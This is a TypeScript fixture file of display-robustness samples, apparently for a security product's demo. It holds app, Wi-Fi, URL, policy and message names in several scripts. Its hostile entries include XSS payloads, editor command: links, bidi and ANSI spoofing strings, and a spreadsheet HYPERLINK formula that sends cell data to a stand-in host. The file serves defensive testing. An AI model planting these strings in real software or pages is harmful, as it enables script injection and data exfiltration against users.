/**
 * Texts that applications, networks and administrators bring. Some are in other scripts and some attack whoever shows them: the product
 * has to survive both, and the demo is where a person can see that it does.
 */
export interface App {
  readonly name: string;
  readonly packageName: string;
}

const app = (name: string, packageName: string): App => ({ name, packageName });

export const ORDINARY_APPS = [
  app('Pocket Torch Pro', 'example.torch.pro'),
  app('Speedy PDF Scanner', 'example.scanner.speedy'),
  app('Rate Exchange Now', 'example.exchange.now'),
  app('Photo Polish', 'example.photo.polish'),
  app('Battery Doctor 360', 'example.battery.doctor'),
  app('Parcel Tracker', 'example.parcel.tracker'),
  app('Crypto Piggybank', 'example.crypto.piggybank'),
  app('QR Reader & Maker', 'example.qr.maker'),
  app('ماسح المستندات السريع', 'example.scanner.arabic'),
  app('محفظتي الآمنة', 'example.wallet.arabic'),
  app('電池節約マスター', 'example.battery.japanese'),
  app('無料天気ウィジェット', 'example.weather.japanese'),
  app('Emoji Keyboard 😀👩🏽‍💻🇯🇵', 'example.keyboard.emoji'),
  app('Переводчик Плюс', 'example.translator.cyrillic'),
] as const;

export const HOSTILE_APPS = [
  app('<img src=x onerror="alert(1)"> Gallery', 'example.hostile.html'),
  app('</script><script>document.title="owned"</script>', 'example.hostile.script'),
  app('[Update now](command:workbench.action.quit) $(alert)', 'example.hostile.command'),
  app('Invoice \u202Efdp.exe\u202C viewer', 'example.hostile.bidi'),
  app('\u001b[31;1mUrgent\u001b[0m\u001b]0;title\u0007 Cleaner', 'example.hostile.ansi'),
  app('=HYPERLINK("https://collect.example/?"&A1,"Open")', 'example.hostile.formula'),
  app('Pay\u200BPoint\u2060 Wallet\u0000', 'example.hostile.invisible'),
  app('Two\r\nLines\tand a tab', 'example.hostile.lines'),
  app('Z̷̢̛a̶͚͐l̸̰̈g̵̱̊o̴̧͋ Cleaner', 'example.hostile.marks'),
  app('$\u007Benv:HOME} %s %n __proto__ \\u0000 "quoted"', 'example.hostile.format'),
] as const;

export const NETWORK_NAMES = [
  'Airport_Free_WiFi',
  'Hotel Aurora Guest',
  'CoffeeCorner',
  'Conference-Hall-B',
  'تشغيل مجاني',
  '無線LANゲスト',
  'FREE \u{1F4F6} wifi',
  '"><svg onload=alert(1)>',
  '\u202Enarts-tseug',
] as const;

export const PHISHING_URLS = [
  'https://sign-in.parcel-fee.example/track?id=8841',
  'https://secure-bank.example.invalid/login/?next=%2Fhome',
  'http://xn--pypal-4ve.example/verify',
  'https://payroll-update.example/hr?<b>now</b>',
  'https://mail-quota.example/a/b/c?user=%E2%80%AE',
  'https://docs-share.example/view#command:workbench.action.terminal.new',
] as const;

export const UNWANTED_URLS = [
  'https://casino-palace.example/spin',
  'https://streams-unlimited.example/live/1',
  'https://anonymous-proxy.example/',
  'https://file-locker.example/d/77hq2',
] as const;

export const POLICY_NAMES = [
  'Default',
  'High risk travel',
  'Contractors',
  'Executives',
  '日本オフィス',
  'Kiosk <b>devices</b>',
] as const;

export const KEY_NAMES = [
  'SIEM export',
  'Ticket bridge',
  'Nightly report',
  'Übergabe SOC',
  'test [x](command:a)',
] as const;

export const MESSAGES = [
  'Please call the service desk before you go on.',
  'Diese App ist nicht erlaubt. Bitte löschen Sie sie.',
  'このアプリを削除してください。',
  '<a href="command:workbench.action.quit">Remove the app</a>',
] as const;
